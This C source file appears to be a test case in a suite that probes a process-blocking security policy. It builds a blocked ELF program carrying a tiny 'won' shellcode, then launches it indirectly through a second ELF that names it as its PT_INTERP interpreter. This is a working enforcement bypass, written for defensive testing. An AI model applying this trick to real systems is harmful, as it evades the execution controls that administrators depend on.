/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The blocked program as the interpreter of another, so that the kernel maps it and enters it by itself.
 *
 * PT_INTERP is meant for the dynamic loader but may name any file, and nobody executes that file by exec.
 *
 * ---
 * tries: [own]
 * source: elf(5), https://man7.org/linux/man-pages/man5/elf.5.html (PT_INTERP)
 * breaks: {process: {matchPaths: [{path: "{o}/program"}]}}
 * wins: said
 */
#include "attack.h"
#include <elf.h>

/* write(1, "won\n", 4); exit(0) */
static const unsigned char says_won[] = "\xb8\1\0\0\0\xbf\1\0\0\0\x48\x8d\x35\x10\0\0\0\xba\4\0\0\0\x0f\x05"
					"\x31\xff\xb8\x3c\0\0\0\x0f\x05won\n";

struct program {
	Elf64_Ehdr head;
	Elf64_Phdr parts[2];
	unsigned char code[64];
	char interpreter[4096];
} __attribute__((aligned(4096))); /* whole pages: 6.1 would have to clear the rest of one that cannot be written */

/* A program of a few instructions, or one that names an interpreter and would crash if it were entered itself. */
static void make(const char *path, const char *interpreter)
{
	static struct program programs[2];
	struct program *p = &programs[interpreter != NULL];
	int fd = open(path, O_CREAT | O_WRONLY, 0755);

	must(fd, "open");
	memcpy(p->head.e_ident, ELFMAG "\2\1\1", 7);
	p->head.e_type = ET_DYN;
	p->head.e_machine = EM_X86_64;
	p->head.e_version = 1;
	p->head.e_entry = offsetof(struct program, code);
	p->head.e_phoff = offsetof(struct program, parts);
	p->head.e_ehsize = sizeof(p->head);
	p->head.e_phentsize = sizeof(p->parts[0]);
	p->head.e_phnum = interpreter ? 2 : 1;
	p->parts[0].p_type = PT_LOAD;
	p->parts[0].p_flags = PF_R | PF_X;
	p->parts[0].p_filesz = p->parts[0].p_memsz = sizeof(*p);
	p->parts[0].p_align = 4096;
	if (interpreter) {
		p->parts[1].p_type = PT_INTERP;
		p->parts[1].p_offset = offsetof(struct program, interpreter);
		p->parts[1].p_filesz = strlen(interpreter) + 1;
		strcpy(p->interpreter, interpreter);
	} else {
		memcpy(p->code, says_won, sizeof(says_won));
	}
	must(write(fd, p, sizeof(*p)), "write");
	close(fd);
}

int main(void)
{
	make(O("program"), NULL);
	make(O("carrier"), O("program"));
	execl(O("carrier"), "carrier", NULL);
	return failed("execl");
}
